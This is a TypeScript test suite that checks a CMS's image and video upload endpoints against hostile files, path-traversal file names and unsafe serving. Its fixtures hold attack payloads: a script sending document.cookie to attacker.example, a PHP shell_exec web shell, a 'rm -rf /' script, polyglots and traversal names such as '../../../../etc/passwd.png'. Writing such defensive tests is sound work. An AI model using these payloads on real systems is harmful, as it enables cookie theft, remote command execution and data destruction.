import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestCms, ADMIN_EMAIL, ADMIN_PASSWORD, type TestCms } from './helpers/cms-server';
import { form, gifBytes, jpegBytes, json, login, mp4Bytes, pngBytes, send } from './helpers/api';

let cms: TestCms;
let token: string;

beforeAll(async () => {
  cms = await startTestCms();
  token = (await login(cms.url, ADMIN_EMAIL, ADMIN_PASSWORD)).body.token;
}, 180_000);

afterAll(async () => {
  await cms?.stop();
});

const IMAGE_MESSAGE = 'Invalid file type. Only jpg, jpeg, png, gif allowed.';
const VIDEO_MESSAGE = 'Invalid file type. Allowed: mp4, avi, mov, mkv, webm';

const nothingStored = async () => {
  for (const table of ['image_galleries', 'video_galleries', 'team_members', 'blogs', 'files']) {
    expect(await cms.countRows(table), table).toBe(0);
  }
  expect(await cms.uploadedFiles()).toEqual([]);
  expect(await cms.tempFiles()).toEqual([]);
};

describe('hostile files are refused by their bytes, whatever their name and declared type', () => {
  const hostile = async () => ({
    html: Buffer.from('<!doctype html><html><body><script>fetch("/api/users")</script></body></html>'),
    'svg with script': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    javascript: Buffer.from('fetch("https://attacker.example/?c="+document.cookie)'),
    php: Buffer.from('<?php echo shell_exec($_GET["c"]); ?>'),
    // A GIF header glued to an HTML page: the "GIFAR" trick. Sniffs as GIF, but is not a decodable image.
    'gif/html polyglot': Buffer.concat([Buffer.from('GIF89a'), Buffer.from('<script>alert(1)</script>')]),
    // A real JPEG with a script appended after its end marker decodes fine and is stored as a JPEG;
    // served as image/jpeg with nosniff it can never run, so it is tested separately below.
    // An ftyp box that is not at offset 4 does not make an MP4.
    'mp4 header on a shell script': Buffer.concat([Buffer.from('#!/bin/sh\nrm -rf /\n'), mp4Bytes(16)]),
  });

  it('as images (renamed .jpg, sent as image/jpeg)', async () => {
    for (const [label, bytes] of Object.entries(await hostile())) {
      const response = await send(
        cms.url,
        'POST',
        '/api/image-gallery',
        form({ title: label, description: 'x' }, { image: { bytes, name: 'holiday.jpg', type: 'image/jpeg' } }),
        token,
      );
      expect(response.status, label).toBe(400);
      const body = await json(response);
      expect(body.errors.image[0], label).toMatch(/Invalid file type|could not be read/);
    }
    await nothingStored();
  });

  it('as videos (renamed .mp4, sent as video/mp4)', async () => {
    for (const [label, bytes] of Object.entries(await hostile())) {
      const response = await send(
        cms.url,
        'POST',
        '/api/video-gallery',
        form({ title: label, description: 'x' }, { video: { bytes, name: 'clip.mp4', type: 'video/mp4' } }),
        token,
      );
      expect(response.status, label).toBe(400);
      expect((await json(response)).errors.video, label).toEqual([VIDEO_MESSAGE]);
    }
    await nothingStored();
  });

  it('as team photos and blog covers too', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const team = await send(
      cms.url,
      'POST',
      '/api/team-member',
      form({ name: 'n', role: 'r', bio: 'b' }, { photo: { bytes: svg, name: 'me.png', type: 'image/png' } }),
      token,
    );
    expect((await json(team)).errors).toEqual({ photo: [IMAGE_MESSAGE] });
    const post = await send(
      cms.url,
      'POST',
      '/api/blog',
      form({ title: 't', content: 'c', author: 'a@example.org' }, { media: { bytes: svg, name: 'cover.gif', type: 'image/gif' } }),
      token,
    );
    expect((await json(post)).errors).toEqual({ media: [IMAGE_MESSAGE] });
    await nothingStored();
  });
});

describe('file names are never used as paths', () => {
  const names = [
    '../../../../etc/passwd.png',
    '..\\..\\windows\\system32\\evil.png',
    'nul\u0000byte.png.php',
    `${'a'.repeat(300)}.png`,
    '<script>alert(1)</script>.png',
    '.htaccess',
  ];

  it('stores each upload under a generated name inside the uploads folder', async () => {
    const png = await pngBytes();
    const ids: number[] = [];
    for (const name of names) {
      const response = await send(
        cms.url,
        'POST',
        '/api/image-gallery',
        form({ title: 'Name test', description: 'd' }, { image: { bytes: png, name, type: 'image/png' } }),
        token,
      );
      expect(response.status, JSON.stringify(name)).toBe(201);
      const body = await json(response);
      ids.push(body.id);
      const stored = new URL(body.mediaUrl).pathname;
      expect(stored).toMatch(/^\/uploads\/name_test_[0-9a-f]{10}\.png$/);
    }
    // Nothing escaped the uploads folder: every file there is one of ours (original + generated sizes).
    for (const file of await cms.uploadedFiles()) expect(file).toMatch(/^([a-z]+_)?name_test_[0-9a-f]{10}\.png$/);
    for (const id of ids) expect((await send(cms.url, 'DELETE', `/api/image-gallery/${id}`, undefined, token)).status).toBe(204);
    await nothingStored();
  });
});

describe('what is accepted is served inertly', () => {
  it('serves a JPEG with a script appended as image/jpeg with nosniff', async () => {
    const jpeg = Buffer.concat([await jpegBytes(), Buffer.from('<script>alert(1)</script>')]);
    const response = await send(
      cms.url,
      'POST',
      '/api/image-gallery',
      form({ title: 'Tail', description: 'd' }, { image: { bytes: jpeg, name: 'x.html', type: 'text/html' } }),
      token,
    );
    expect(response.status).toBe(201);
    const { id, mediaUrl } = await json(response);
    expect(mediaUrl).toMatch(/\.jpg$/);
    const served = await fetch(mediaUrl);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await send(cms.url, 'DELETE', `/api/image-gallery/${id}`, undefined, token)).status).toBe(204);
  });

  it('keeps a GIF a GIF whatever it was called', async () => {
    const response = await send(
      cms.url,
      'POST',
      '/api/image-gallery',
      form({ title: 'Gif', description: 'd' }, { image: { bytes: await gifBytes(), name: 'page.svg', type: 'image/svg+xml' } }),
      token,
    );
    expect(response.status).toBe(201);
    const { id, mediaUrl } = await json(response);
    expect(mediaUrl).toMatch(/\.gif$/);
    expect((await fetch(mediaUrl)).headers.get('content-type')).toBe('image/gif');
    expect((await send(cms.url, 'DELETE', `/api/image-gallery/${id}`, undefined, token)).status).toBe(204);
    await nothingStored();
  });
});
